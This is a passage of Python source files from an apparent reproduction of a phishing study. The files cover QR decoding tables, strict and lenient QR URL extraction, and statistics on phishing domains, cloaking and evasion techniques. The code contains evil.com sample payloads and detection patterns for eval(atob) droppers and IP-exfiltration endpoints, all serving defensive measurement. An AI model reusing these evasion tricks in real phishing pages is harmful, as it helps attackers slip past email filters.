    (1, ECLevel.H): BlockStructure(17, ((1, 9),)),
    (2, ECLevel.L): BlockStructure(10, ((1, 34),)),
    (2, ECLevel.M): BlockStructure(16, ((1, 28),)),
    (2, ECLevel.Q): BlockStructure(22, ((1, 22),)),
    (2, ECLevel.H): BlockStructure(28, ((1, 16),)),
    (3, ECLevel.L): BlockStructure(15, ((1, 55),)),
    (3, ECLevel.M): BlockStructure(26, ((1, 44),)),
    (3, ECLevel.Q): BlockStructure(18, ((2, 17),)),
    (3, ECLevel.H): BlockStructure(22, ((2, 13),)),
    (4, ECLevel.L): BlockStructure(20, ((1, 80),)),
    (4, ECLevel.M): BlockStructure(18, ((2, 32),)),
    (4, ECLevel.Q): BlockStructure(26, ((2, 24),)),
    (4, ECLevel.H): BlockStructure(16, ((4, 9),)),
    (5, ECLevel.L): BlockStructure(26, ((1, 108),)),
    (5, ECLevel.M): BlockStructure(24, ((2, 43),)),
    (5, ECLevel.Q): BlockStructure(18, ((2, 15), (2, 16))),
    (5, ECLevel.H): BlockStructure(22, ((2, 11), (2, 12))),
    (6, ECLevel.L): BlockStructure(18, ((2, 68),)),
    (6, ECLevel.M): BlockStructure(16, ((4, 27),)),
    (6, ECLevel.Q): BlockStructure(24, ((4, 19),)),
    (6, ECLevel.H): BlockStructure(28, ((4, 15),)),
    (7, ECLevel.L): BlockStructure(20, ((2, 78),)),
    (7, ECLevel.M): BlockStructure(18, ((4, 31),)),
    (7, ECLevel.Q): BlockStructure(18, ((2, 14), (4, 15))),
    (7, ECLevel.H): BlockStructure(26, ((4, 13), (1, 14))),
    (8, ECLevel.L): BlockStructure(24, ((2, 97),)),
    (8, ECLevel.M): BlockStructure(22, ((2, 38), (2, 39))),
    (8, ECLevel.Q): BlockStructure(22, ((4, 18), (2, 19))),
    (8, ECLevel.H): BlockStructure(26, ((4, 14), (2, 15))),
    (9, ECLevel.L): BlockStructure(30, ((2, 116),)),
    (9, ECLevel.M): BlockStructure(22, ((3, 36), (2, 37))),
    (9, ECLevel.Q): BlockStructure(20, ((4, 16), (4, 17))),
    (9, ECLevel.H): BlockStructure(24, ((4, 12), (4, 13))),
    (10, ECLevel.L): BlockStructure(18, ((2, 68), (2, 69))),
    (10, ECLevel.M): BlockStructure(26, ((4, 43), (1, 44))),
    (10, ECLevel.Q): BlockStructure(24, ((6, 19), (2, 20))),
    (10, ECLevel.H): BlockStructure(28, ((6, 15), (2, 16))),
}

#: Alignment pattern centre coordinates per version.
ALIGNMENT_POSITIONS: dict[int, tuple[int, ...]] = {
    1: (),
    2: (6, 18),
    3: (6, 22),
    4: (6, 26),
    5: (6, 30),
    6: (6, 34),
    7: (6, 22, 38),
    8: (6, 24, 42),
    9: (6, 26, 46),
    10: (6, 28, 50),
}

#: Mask applied to the 15-bit format information string.
FORMAT_MASK = 0b101010000010010
#: Generator polynomial for the BCH(15,5) format-information code.
FORMAT_GENERATOR = 0b10100110111
#: Generator polynomial for the BCH(18,6) version-information code.
VERSION_GENERATOR = 0b1111100100101

ALPHANUMERIC_CHARSET = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:"


def matrix_size(version: int) -> int:
    """Side length of the module matrix for a version."""
    if not 1 <= version <= 40:
        raise ValueError(f"invalid QR version {version}")
    return 17 + 4 * version


def version_for_size(size: int) -> int:
    """Inverse of :func:`matrix_size`."""
    if size < 21 or (size - 17) % 4 != 0:
        raise ValueError(f"invalid QR matrix size {size}")
    return (size - 17) // 4


def bch_format_bits(ec_level: ECLevel, mask_id: int) -> int:
    """The masked 15-bit format information for an EC level and mask."""
    if not 0 <= mask_id <= 7:
        raise ValueError("mask_id must be in 0..7")
    data = (ec_level.value << 3) | mask_id
    remainder = data << 10
    for shift in range(4, -1, -1):
        if remainder & (1 << (shift + 10)):
            remainder ^= FORMAT_GENERATOR << shift
    return (((data << 10) | remainder) ^ FORMAT_MASK) & 0x7FFF


#: All 32 valid (masked) format strings, for nearest-codeword decoding.
FORMAT_CODEWORDS: dict[int, tuple[ECLevel, int]] = {
    bch_format_bits(level, mask): (level, mask)
    for level in ECLevel
    for mask in range(8)
}


def bch_version_bits(version: int) -> int:
    """The 18-bit version information (only used for version >= 7)."""
    if version < 7:
        raise ValueError("version information only exists for versions >= 7")
    remainder = version << 12
    for shift in range(5, -1, -1):
        if remainder & (1 << (shift + 12)):
            remainder ^= VERSION_GENERATOR << shift
    return (version << 12) | remainder
