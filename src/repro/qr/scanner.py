"""Payload-to-URL extraction policies — the faulty-QR filter bug.

Section V-C.1 of the paper: 35 messages carried *faulty* QR codes whose
payload is not a syntactically valid URL, e.g. ``"xxx https://evil.com/"``
or ``"[https://evil.com/"``.  Mobile camera apps still extract the URL by
"disregarding any faulty characters", while (as of April 2024) two of
three leading commercial email security tools extracted nothing and
classified the message as benign.

This module exposes both behaviours:

- :func:`extract_url_strict` models the email-filter parsers: the whole
  payload must be one well-formed URL, otherwise nothing is extracted.
- :func:`extract_url_lenient` models mobile camera apps (and CrawlerBox):
  any ``http(s)://`` substring is located and the URL is carved out.
"""

from __future__ import annotations

import re

from repro.imaging.image import Image
from repro.qr.decoder import QRDecodeError, decode_qr_matrix
from repro.qr.locator import QRLocateError, locate_qr_matrix

#: Characters allowed in a URL by the strict (RFC-ish) validator.
_STRICT_URL_RE = re.compile(
    r"^https?://"
    r"[A-Za-z0-9](?:[A-Za-z0-9\-.]*[A-Za-z0-9])?"  # host
    r"(?::\d{1,5})?"  # port
    r"(?:/[A-Za-z0-9\-._~!$&'()*+,;=:@%/]*)?"  # path
    r"(?:\?[A-Za-z0-9\-._~!$&'()*+,;=:@%/?]*)?"  # query
    r"(?:#[A-Za-z0-9\-._~!$&'()*+,;=:@%/?]*)?$"  # fragment
)

#: Lenient carve-out: find a scheme anywhere and take the URL-ish tail.
_LENIENT_URL_RE = re.compile(r"https?://[^\s\"'<>\[\]]+", re.IGNORECASE)


def extract_url_strict(payload: str) -> str | None:
    """Email-filter behaviour: the payload must *be* a valid URL.

    Leading garbage ("xxx https://…"), stray brackets, or any other
    syntactic irregularity makes extraction fail — which is exactly the
    bug attackers exploit.
    """
    candidate = payload.strip()
    if _STRICT_URL_RE.match(candidate):
        return candidate
    return None


def extract_url_lenient(payload: str) -> str | None:
    """Mobile-camera behaviour: carve the first URL out of the payload."""
    match = _LENIENT_URL_RE.search(payload)
    if match:
        return match.group(0).rstrip(".,;")
    return None


def decode_qr_image(image: Image) -> str:
    """Locate and decode one QR symbol in an image, returning its payload.

    Raises :class:`~repro.qr.locator.QRLocateError` if no symbol is found
    and :class:`~repro.qr.decoder.QRDecodeError` if it cannot be decoded.
    """
    matrix = locate_qr_matrix(image)
    return decode_qr_matrix(matrix)


def scan_image_for_urls(image: Image, lenient: bool = True) -> list[str]:
    """Best-effort QR URL extraction from an image.

    Returns an empty list when the image holds no decodable symbol, or
    when the chosen extraction policy rejects the payload.
    """
    try:
        payload = decode_qr_image(image)
    except (QRLocateError, QRDecodeError):
        return []
    extractor = extract_url_lenient if lenient else extract_url_strict
    url = extractor(payload)
    return [url] if url else []
