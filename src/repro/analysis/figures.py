"""One builder per table/figure in the paper's evaluation.

Each function returns a plain dataclass/dict of rows so the benchmarks
can print paper-vs-measured tables and the tests can assert shapes.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass, field

from repro.analysis import stats
from repro.analysis.dnsvolume import DnsVolumeSummary, dns_volume_summary
from repro.analysis.domains import DomainSyntaxSummary, domain_syntax_summary
from repro.analysis.evasion import EvasionPrevalence, measure_evasion_prevalence
from repro.analysis.timeline import TimelineSummary, compute_timelines, timeline_summary
from repro.core.artifacts import MessageRecord
from repro.core.outcomes import MessageCategory, PageClass
from repro.dataset.calibration import CALIBRATION, Calibration
from repro.web.urls import top_level_domain


# ----------------------------------------------------------------------
# Table I
# ----------------------------------------------------------------------
def table1(seed: int = 7):
    """Crawler-vs-detector assessment rows (computed live)."""
    from repro.crawlers.assessment import assess_all_crawlers

    return assess_all_crawlers(seed=seed)


# ----------------------------------------------------------------------
# Table II
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class Table2:
    total_domains: int
    #: (tld, count) sorted descending.
    rows: tuple[tuple[str, int], ...]


def active_landing_domains(records: list[MessageRecord]) -> list[str]:
    domains: set[str] = set()
    for record in records:
        if record.category == MessageCategory.ACTIVE_PHISHING:
            domains.update(record.landing_domains)
    return sorted(domains)


def table2(records: list[MessageRecord]) -> Table2:
    domains = active_landing_domains(records)
    counts = Counter(top_level_domain(domain) for domain in domains)
    return Table2(total_domains=len(domains), rows=tuple(counts.most_common()))


# ----------------------------------------------------------------------
# Figure 2
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class Figure2:
    monthly_2024: tuple[int, ...]
    mean_2024: float
    std_2024: float
    monthly_2023: tuple[int, ...]
    mean_2023: float
    std_2023: float
    t_test: stats.PairedTTestResult


def figure2(records: list[MessageRecord], calibration: Calibration = CALIBRATION) -> Figure2:
    """Monthly scanned-message volumes plus the 2023 comparison.

    The 2023 series comes from the calibration constants (the study had
    not started; the paper likewise only had the experts' aggregates).
    """
    n_months = len(calibration.monthly_malicious_2024)
    counts = [0] * n_months
    for record in records:
        month = int(record.delivered_at // calibration.hours_per_month)
        if 0 <= month < n_months:
            counts[month] += 1
    series_2023 = [float(value) for value in calibration.monthly_malicious_2023]
    series_2024 = [float(value) for value in counts]
    return Figure2(
        monthly_2024=tuple(counts),
        mean_2024=stats.mean(series_2024),
        std_2024=stats.std(series_2024),
        monthly_2023=tuple(calibration.monthly_malicious_2023),
        mean_2023=stats.mean(series_2023),
        std_2023=stats.std(series_2023),
        t_test=stats.rank_paired_t_test(series_2023, series_2024),
    )


# ----------------------------------------------------------------------
# Figure 3
# ----------------------------------------------------------------------
def figure3(records: list[MessageRecord], network) -> TimelineSummary:
    return timeline_summary(compute_timelines(records, network))


# ----------------------------------------------------------------------
# Section V: outcome breakdown
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class OutcomeBreakdown:
    total: int
    counts: tuple[tuple[str, int], ...]

    def count(self, category: str) -> int:
        return dict(self.counts).get(category, 0)

    def fraction(self, category: str) -> float:
        return self.count(category) / self.total if self.total else 0.0


def outcome_breakdown(records: list[MessageRecord]) -> OutcomeBreakdown:
    counts = Counter(record.category for record in records)
    return OutcomeBreakdown(total=len(records), counts=tuple(counts.most_common()))


# ----------------------------------------------------------------------
# Section V-A: spear phishing
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class SpearSummary:
    active_messages: int
    spear_messages: int
    hotlink_messages: int
    distinct_landing_urls: int
    distinct_landing_domains: int
    messages_per_domain_mean: float
    messages_per_domain_median: float
    messages_per_domain_max: int
    ru_registrars: tuple[str, ...]
    domain_syntax: DomainSyntaxSummary
    dns_volumes: DnsVolumeSummary | None

    @property
    def spear_fraction(self) -> float:
        return self.spear_messages / self.active_messages if self.active_messages else 0.0

    @property
    def hotlink_fraction(self) -> float:
        return self.hotlink_messages / self.spear_messages if self.spear_messages else 0.0


def section5a_spear(records: list[MessageRecord], world=None) -> SpearSummary:
    from repro.core.report import _loads_brand_resources
    from repro.kits.brands import COMMODITY_BRANDS, COMPANY_BRANDS

    active = [r for r in records if r.category == MessageCategory.ACTIVE_PHISHING]
    spear = [r for r in active if r.spear_brand is not None]
    hotlink = [r for r in spear if _loads_brand_resources(r)]

    urls: set[str] = set()
    per_domain: dict[str, int] = defaultdict(int)
    for record in active:
        urls.update(record.landing_urls)
        for domain in record.landing_domains:
            per_domain[domain] += 1
    domain_counts = [float(count) for count in per_domain.values()]

    ru_registrars: set[str] = set()
    if world is not None:
        from repro.web.urls import registered_domain

        for domain in per_domain:
            if top_level_domain(domain) == ".ru":
                whois = world.network.whois.lookup(registered_domain(domain))
                if whois is not None:
                    ru_registrars.add(whois.registrar)

    brand_tokens = [brand.name.lower().replace(" ", "") for brand in COMPANY_BRANDS] + [
        brand.name.lower().replace(" ", "") for brand, _ in COMMODITY_BRANDS
    ]
    syntax = domain_syntax_summary(sorted(per_domain), brand_tokens)

    volumes = None
    if world is not None:
        compromised = set()
        from repro.web.urls import registered_domain as _registrable

        for domain in per_domain:
            whois = world.network.whois.lookup(_registrable(domain))
            if whois is not None and whois.compromised:
                compromised.add(domain)
        volumes = dns_volume_summary(records, world.passive_dns, exclude_compromised=compromised)

    return SpearSummary(
        active_messages=len(active),
        spear_messages=len(spear),
        hotlink_messages=len(hotlink),
        distinct_landing_urls=len(urls),
        distinct_landing_domains=len(per_domain),
        messages_per_domain_mean=stats.mean(domain_counts) if domain_counts else 0.0,
        messages_per_domain_median=stats.median(domain_counts) if domain_counts else 0.0,
        messages_per_domain_max=int(max(domain_counts)) if domain_counts else 0,
        ru_registrars=tuple(sorted(ru_registrars)),
        domain_syntax=syntax,
        dns_volumes=volumes,
    )


# ----------------------------------------------------------------------
# Section V-B: non-targeted attacks
# ----------------------------------------------------------------------
@dataclass(frozen=True)
class NonTargetedSummary:
    nontargeted_messages: int
    brand_counts: tuple[tuple[str, int], ...]
    html_attachment_messages: int
    html_attachment_local: int
    otp_messages: int
    math_messages: int
    distinct_domains: int
    deceptive_domains: int


def section5b_nontargeted(records: list[MessageRecord], world) -> NonTargetedSummary:
    """Analyse the active messages that did not match company portals."""
    from repro.core.spearphish import SpearPhishClassifier
    from repro.imaging.phash import hamming_distance
    from repro.kits.brands import COMMODITY_BRANDS, COMPANY_BRANDS

    active = [r for r in records if r.category == MessageCategory.ACTIVE_PHISHING]
    nontargeted = [r for r in active if r.spear_brand is None]

    commodity_classifier = SpearPhishClassifier.from_portals(
        world.network, [brand for brand, _ in COMMODITY_BRANDS]
    )

    #: Unique landing sites per impersonated brand ("130 unique web
    #: pages"): the same lookalike page reached by several duplicate
    #: lures counts once.
    brand_sites: dict[str, set[str]] = defaultdict(set)
    domains: set[str] = set()
    html_attachment = 0
    html_local = 0
    otp = 0
    math_gate = 0
    for record in nontargeted:
        if record.extraction is not None and record.extraction.html_attachment_paths:
            html_attachment += 1
            if record.local_login_form and not record.landing_domains:
                html_local += 1
        domains.update(record.landing_domains)
        is_otp = is_math = False
        for crawl in record.crawls:
            if crawl.page_class == PageClass.GATED_LOGIN:
                snippet = crawl.final_text_snippet.lower()
                title = crawl.final_title.lower()
                if "one-time password" in snippet or "verification required" in title:
                    is_otp = True
                elif "solve" in snippet or "security check" in title:
                    is_math = True
            if crawl.screenshot_phash is None or crawl.page_class != PageClass.LOGIN_FORM:
                continue
            for reference in commodity_classifier.references:
                p_distance = hamming_distance(crawl.screenshot_phash, reference.phash)
                d_distance = hamming_distance(crawl.screenshot_dhash, reference.dhash)
                if p_distance <= commodity_classifier.threshold and d_distance <= commodity_classifier.threshold:
                    brand_sites[reference.brand].add(crawl.landing_domain)
        otp += is_otp
        math_gate += is_math
    brand_counts = Counter({brand: len(sites) for brand, sites in brand_sites.items()})

    brand_tokens = [brand.name.lower().replace(" ", "") for brand in COMPANY_BRANDS] + [
        brand.name.lower().replace(" ", "") for brand, _ in COMMODITY_BRANDS
    ]
    syntax = domain_syntax_summary(sorted(domains), brand_tokens)
    return NonTargetedSummary(
        nontargeted_messages=len(nontargeted),
        brand_counts=tuple(brand_counts.most_common()),
        html_attachment_messages=html_attachment,
        html_attachment_local=html_local,
        otp_messages=otp,
        math_messages=math_gate,
        distinct_domains=len(domains),
        deceptive_domains=syntax.deceptive,
    )


# ----------------------------------------------------------------------
# Section V-C
# ----------------------------------------------------------------------
def section5c_evasion(records: list[MessageRecord]) -> EvasionPrevalence:
    return measure_evasion_prevalence(records)
