"""Figure 3: the phishing deployment timeline (Section V-A).

For each landing domain, two deltas against the *average delivery time*
of its associated messages:

- ``timedeltaA`` — domain registration (WHOIS) to delivery,
- ``timedeltaB`` — first TLS certificate issuance (CT logs) to delivery.

The paper reports medians of 575 h and 185 h, fat-tailed distributions
(kurtosis 8.4 / 6.8), 102 vs 5 domains over 90 days, and a 71-domain
outlier set (42 fresh, 20 compromised, 9 abused legitimate services).
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass

from repro.analysis import stats
from repro.core.artifacts import MessageRecord
from repro.core.outcomes import MessageCategory
from repro.web.network import Network
from repro.web.urls import registered_domain

HOURS_90_DAYS = 90 * 24.0
HOURS_273_DAYS = 273 * 24.0
HOURS_45_DAYS = 45 * 24.0


@dataclass(frozen=True)
class DomainTimeline:
    """One landing domain's deployment timeline."""

    domain: str
    message_count: int
    mean_delivery: float
    registered_at: float | None
    cert_issued_at: float | None
    registrar: str = ""
    compromised: bool = False

    @property
    def timedelta_a(self) -> float | None:
        if self.registered_at is None:
            return None
        return self.mean_delivery - self.registered_at

    @property
    def timedelta_b(self) -> float | None:
        if self.cert_issued_at is None:
            return None
        return self.mean_delivery - self.cert_issued_at

    @property
    def is_outlier(self) -> bool:
        """The paper's outlier rule: A > 273 days or B > 45 days."""
        delta_a = self.timedelta_a
        delta_b = self.timedelta_b
        return bool(
            (delta_a is not None and delta_a > HOURS_273_DAYS)
            or (delta_b is not None and delta_b > HOURS_45_DAYS)
        )


def compute_timelines(records: list[MessageRecord], network: Network) -> list[DomainTimeline]:
    """Per-domain timelines for every active-phishing landing domain."""
    deliveries: dict[str, list[float]] = defaultdict(list)
    for record in records:
        if record.category != MessageCategory.ACTIVE_PHISHING:
            continue
        for domain in record.landing_domains:
            deliveries[domain].append(record.delivered_at)

    timelines: list[DomainTimeline] = []
    for domain, hours in sorted(deliveries.items()):
        whois = network.whois.lookup(registered_domain(domain))
        cert_issued = network.ct_log.earliest_issuance(domain)
        if cert_issued is None:
            cert_issued = network.ct_log.earliest_issuance(registered_domain(domain))
        timelines.append(
            DomainTimeline(
                domain=domain,
                message_count=len(hours),
                mean_delivery=sum(hours) / len(hours),
                registered_at=whois.created if whois else None,
                cert_issued_at=cert_issued,
                registrar=whois.registrar if whois else "",
                compromised=whois.compromised if whois else False,
            )
        )
    return timelines


@dataclass(frozen=True)
class TimelineSummary:
    """The Figure 3 headline numbers."""

    n_domains: int
    median_timedelta_a: float
    median_timedelta_b: float
    kurtosis_a: float
    kurtosis_b: float
    over_90d_a: int
    over_90d_b: int
    over_90d_b_compromised: int
    outliers: int
    outlier_compromised: int
    outlier_abused_services: int
    histogram_a_days: list[int]
    histogram_b_days: list[int]


#: Suffixes of the abused legitimate hosting services the paper names.
ABUSED_SERVICE_SUFFIXES = (
    "vercel.app",
    "cloudflare-ipfs.com",
    "workers.dev",
    "r2.dev",
    "oraclecloud.com",
    "cloudfront.net",
)


def timeline_summary(timelines: list[DomainTimeline]) -> TimelineSummary:
    deltas_a = [t.timedelta_a for t in timelines if t.timedelta_a is not None]
    deltas_b = [t.timedelta_b for t in timelines if t.timedelta_b is not None]
    outliers = [t for t in timelines if t.is_outlier]
    return TimelineSummary(
        n_domains=len(timelines),
        median_timedelta_a=stats.median(deltas_a),
        median_timedelta_b=stats.median(deltas_b),
        kurtosis_a=stats.excess_kurtosis(deltas_a),
        kurtosis_b=stats.excess_kurtosis(deltas_b),
        over_90d_a=sum(1 for delta in deltas_a if delta > HOURS_90_DAYS),
        over_90d_b=sum(1 for delta in deltas_b if delta > HOURS_90_DAYS),
        over_90d_b_compromised=sum(
            1
            for t in timelines
            if t.timedelta_b is not None and t.timedelta_b > HOURS_90_DAYS and t.compromised
        ),
        outliers=len(outliers),
        outlier_compromised=sum(1 for t in outliers if t.compromised),
        outlier_abused_services=sum(
            1 for t in outliers if t.domain.endswith(ABUSED_SERVICE_SUFFIXES)
        ),
        histogram_a_days=stats.histogram_days([d for d in deltas_a if d <= HOURS_90_DAYS]),
        histogram_b_days=stats.histogram_days([d for d in deltas_b if d <= HOURS_90_DAYS]),
    )
