"""Analysis layer: the paper's statistics recomputed from raw records.

Everything here consumes :class:`~repro.core.artifacts.MessageRecord`
lists (plus the network's WHOIS/CT/passive-DNS sources) and re-derives
the evaluation numbers:

- :mod:`~repro.analysis.stats` — kurtosis, paired t-test, medians.
- :mod:`~repro.analysis.timeline` — Figure 3's timedeltaA/timedeltaB.
- :mod:`~repro.analysis.domains` — the deceptive-syntax detectors
  (combosquatting, target embedding, homoglyphs, keyword stuffing,
  typosquatting, punycode).
- :mod:`~repro.analysis.evasion` — prevalence of message-level and
  cloaking evasions, including cross-domain shared-script clustering.
- :mod:`~repro.analysis.dnsvolume` — Umbrella-style query-volume stats.
- :mod:`~repro.analysis.figures` — one builder per table/figure.
"""

from repro.analysis import stats
from repro.analysis.timeline import DomainTimeline, compute_timelines, timeline_summary
from repro.analysis.domains import classify_domain_syntax, domain_syntax_summary
from repro.analysis.evasion import EvasionPrevalence, measure_evasion_prevalence
from repro.analysis.dnsvolume import dns_volume_summary

__all__ = [
    "stats",
    "DomainTimeline",
    "compute_timelines",
    "timeline_summary",
    "classify_domain_syntax",
    "domain_syntax_summary",
    "EvasionPrevalence",
    "measure_evasion_prevalence",
    "dns_volume_summary",
]
