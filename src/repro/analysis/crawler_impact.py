"""Pipeline-level crawler ablation: what a weaker crawler would have seen.

CrawlerBox's modular design ("allowing for interchangeable use of the
crawling component", Section IV-A) makes the paper's central argument
testable end-to-end: run the same reported messages through the pipeline
with each crawler profile and measure how much phishing each one
actually uncovers. Cloaked campaigns show naive crawlers a decoy, an
interstitial, or an error — so their active-phishing recall collapses.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.core.outcomes import MessageCategory
from repro.core.pipeline import CrawlerBox
from repro.crawlers.base import Crawler
from repro.crawlers.notabot import notabot_profile
from repro.crawlers.profiles import CRAWLER_PROFILES


@dataclass(frozen=True)
class CrawlerImpact:
    """Recall of one crawler over the same message set."""

    crawler: str
    messages: int
    #: Messages whose ground truth is credential phishing.
    phishing_messages: int
    #: ... of which this crawler's pipeline classified active.
    detected_active: int
    #: ... of which it saw only errors/decoys (cloaked away).
    cloaked_away: int

    @property
    def recall(self) -> float:
        return self.detected_active / self.phishing_messages if self.phishing_messages else 0.0


def measure_crawler_impact(
    corpus,
    crawler_names: tuple[str, ...] = ("kangooroo", "puppeteer-stealth", "notabot"),
    sample_size: int | None = None,
    seed: int = 17,
) -> list[CrawlerImpact]:
    """Re-analyze the corpus's credential messages with several crawlers.

    ``corpus`` is a :class:`~repro.dataset.generator.GeneratedCorpus`;
    only its credential-phishing messages are re-driven (the other
    buckets do not depend on crawler stealth).
    """
    phishing = [
        message
        for message in corpus.messages
        if message.ground_truth.get("category") == "credential-phishing"
    ]
    if sample_size is not None:
        phishing = phishing[:sample_size]

    results: list[CrawlerImpact] = []
    for name in crawler_names:
        profile = notabot_profile() if name == "notabot" else CRAWLER_PROFILES[name]
        box = CrawlerBox.for_world(
            corpus.world,
            crawler=Crawler(corpus.world.network, profile, rng=random.Random(seed)),
            rng=random.Random(seed),
        )
        detected = cloaked = 0
        for index, message in enumerate(phishing):
            record = box.analyze(message, index)
            if record.category == MessageCategory.ACTIVE_PHISHING:
                detected += 1
            else:
                cloaked += 1
        results.append(
            CrawlerImpact(
                crawler=name,
                messages=len(phishing),
                phishing_messages=len(phishing),
                detected_active=detected,
                cloaked_away=cloaked,
            )
        )
    return results
