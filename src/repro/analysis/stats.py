"""Statistical helpers used by the evaluation.

Thin, explicit wrappers so every test and bench computes moments the
same way the paper describes (kurtosis for Figure 3's fat tails, the
paired t-test for the 2023/2024 comparison).
"""

from __future__ import annotations

import math
from dataclasses import dataclass

import numpy as np
from scipy import stats as scipy_stats


def mean(values: list[float]) -> float:
    if not values:
        raise ValueError("mean of empty sequence")
    return float(np.mean(values))


def std(values: list[float]) -> float:
    """Population standard deviation (matching the paper's Figure 2 text)."""
    if not values:
        raise ValueError("std of empty sequence")
    return float(np.std(values))


def median(values: list[float]) -> float:
    if not values:
        raise ValueError("median of empty sequence")
    return float(np.median(values))


def excess_kurtosis(values: list[float]) -> float:
    """Fisher (excess) kurtosis: 0 for a normal distribution.

    The paper reports kurtosis 8.4 / 6.8 for the timedelta distributions
    and reads them as fat-tailed; any value well above 0 carries the
    same interpretation.
    """
    if len(values) < 4:
        raise ValueError("kurtosis needs at least 4 samples")
    return float(scipy_stats.kurtosis(values, fisher=True, bias=False))


@dataclass(frozen=True)
class PairedTTestResult:
    t_statistic: float
    p_value: float
    mean_difference: float

    def significant(self, alpha: float = 0.05) -> bool:
        return self.p_value < alpha


def paired_t_test(series_a: list[float], series_b: list[float]) -> PairedTTestResult:
    """Two-sided paired t-test (scipy ``ttest_rel``)."""
    if len(series_a) != len(series_b):
        raise ValueError("paired t-test requires equal-length series")
    result = scipy_stats.ttest_rel(series_a, series_b)
    differences = [a - b for a, b in zip(series_a, series_b)]
    return PairedTTestResult(
        t_statistic=float(result.statistic),
        p_value=float(result.pvalue),
        mean_difference=float(np.mean(differences)),
    )


def rank_paired_t_test(series_a: list[float], series_b: list[float]) -> PairedTTestResult:
    """Paired t-test after sorting both series descending.

    The paper pairs the ten 2023 months with the ten 2024 months but does
    not state the pairing; pairing by within-year volume rank compares
    the month-volume *distributions* and is the variant we report (see
    EXPERIMENTS.md for the discussion).
    """
    return paired_t_test(sorted(series_a, reverse=True), sorted(series_b, reverse=True))


def histogram_days(values_hours: list[float], max_days: int = 90) -> list[int]:
    """Counts per whole day for values under ``max_days`` (Figure 3)."""
    counts = [0] * max_days
    for value in values_hours:
        day = int(value // 24)
        if 0 <= day < max_days:
            counts[day] += 1
    return counts


def fraction(numerator: int, denominator: int) -> float:
    return numerator / denominator if denominator else math.nan
