"""Evasion-technique prevalence (Section V-C), from observed behaviour.

Every count is derived from what the pipeline *observed* — executed
scripts, AJAX destinations, session signals, URL chains — never from
generator ground truth:

- Turnstile / reCAPTCHA via their challenge/score endpoints in the
  page's network activity.
- Console hijacking, debugger timers, context-menu blocking, and
  hue-rotation from :class:`~repro.browser.session.SessionSignals`.
- The UA+timezone+language cloak from the fingerprint-probe reads.
- Fingerprinting libraries from their artifacts in executed scripts.
- httpbin/ipapi IP exfiltration from AJAX URLs.
- The shared victim-tracking scripts via cross-domain clustering of
  identical obfuscated script texts.
"""

from __future__ import annotations

import hashlib
from collections import defaultdict
from dataclasses import dataclass, field

from repro.core.artifacts import MessageRecord, UrlCrawl
from repro.core.outcomes import MessageCategory, PageClass


@dataclass
class ScriptCluster:
    """One script text shared across deployments."""

    script_hash: str
    domains: set[str] = field(default_factory=set)
    message_indices: set[int] = field(default_factory=set)
    sample: str = ""
    decoded: str = ""

    @property
    def n_domains(self) -> int:
        return len(self.domains)

    @property
    def n_messages(self) -> int:
        return len(self.message_indices)

    @property
    def kind(self) -> str:
        """What the (de-obfuscated) script does."""
        if "hue-rotate" in self.decoded:
            return "hue-rotate"
        if "/check" in self.decoded and "atob" in self.decoded:
            return "victim-check"
        if "location.href" in self.decoded:
            return "redirector"
        return "other"


def _decode_dropper(script: str) -> str:
    """Recover the payload of an ``eval(atob("..."))`` dropper."""
    import base64
    import re

    match = re.search(r'eval\(atob\("([A-Za-z0-9+/=]+)"\)\)', script)
    if not match:
        return ""
    try:
        return base64.b64decode(match.group(1)).decode("latin-1", errors="replace")
    except Exception:  # noqa: BLE001 - hostile input, best effort
        return ""


@dataclass
class EvasionPrevalence:
    """Message counts per technique."""

    credential_messages: int = 0
    turnstile: int = 0
    recaptcha: int = 0
    console_hijack: int = 0
    debugger_timer: int = 0
    context_menu_block: int = 0
    ua_tz_lang_cloak: int = 0
    fingerprint_libraries: int = 0
    fingerprint_library_window: tuple[float, float] | None = None
    httpbin: int = 0
    ipapi: int = 0
    hue_rotate_messages: int = 0
    hue_rotate_pages: int = 0
    otp_gate: int = 0
    math_challenge: int = 0
    auth_all_pass: int = 0
    noise_padded: int = 0
    faulty_qr: int = 0
    qr_messages: int = 0
    shared_script_clusters: list[ScriptCluster] = field(default_factory=list)

    @property
    def turnstile_fraction(self) -> float:
        return self.turnstile / self.credential_messages if self.credential_messages else 0.0

    @property
    def recaptcha_fraction(self) -> float:
        return self.recaptcha / self.credential_messages if self.credential_messages else 0.0


def _is_credential_message(record: MessageRecord) -> bool:
    """Messages "aimed at harvesting victims' credentials": an actual
    login form was reached (the paper's 1,267 = spear + unique commodity
    lookalikes)."""
    return record.category == MessageCategory.ACTIVE_PHISHING and any(
        crawl.page_class == PageClass.LOGIN_FORM for crawl in record.crawls
    )


def _uses_turnstile(crawl: UrlCrawl) -> bool:
    return any("/cdn-cgi/challenge" in url for url in crawl.ajax_urls)


def _uses_recaptcha(crawl: UrlCrawl) -> bool:
    return any("recaptcha" in url for url in crawl.ajax_urls)


def _uses_fingerprint_libraries(crawl: UrlCrawl) -> bool:
    joined = "\n".join(crawl.executed_scripts)
    return "__botd_result" in joined and "__fpjs_visitor_id" in joined


def _ua_tz_lang_probe(crawl: UrlCrawl) -> bool:
    """The custom UA+timezone+language association cloak.

    Challenge services (Turnstile, reCAPTCHA) and fingerprinting
    libraries read the same properties; a crawl only counts as the
    *custom* cloak when none of those are present on the page chain.
    """
    if crawl.signals is None:
        return False
    reads = set(crawl.signals.navigator_reads)
    return (
        "userAgent" in reads
        and bool(reads & {"language", "userLanguage"})
        and crawl.signals.intl_timezone_read
        and not _uses_fingerprint_libraries(crawl)
        and not _uses_turnstile(crawl)
        and not _uses_recaptcha(crawl)
    )


def measure_evasion_prevalence(
    records: list[MessageRecord], min_cluster_domains: int = 2
) -> EvasionPrevalence:
    """Compute the Section V-C prevalence table from analysis records."""
    from repro.qr.scanner import extract_url_strict

    result = EvasionPrevalence()
    clusters: dict[str, ScriptCluster] = {}
    fingerprint_times: list[float] = []

    for record in records:
        if record.auth is not None and record.auth.all_pass:
            result.auth_all_pass += 1
        if record.noise_padded:
            result.noise_padded += 1
        if record.qr_payloads:
            result.qr_messages += 1
            if any(extract_url_strict(payload) is None for _, payload in record.qr_payloads):
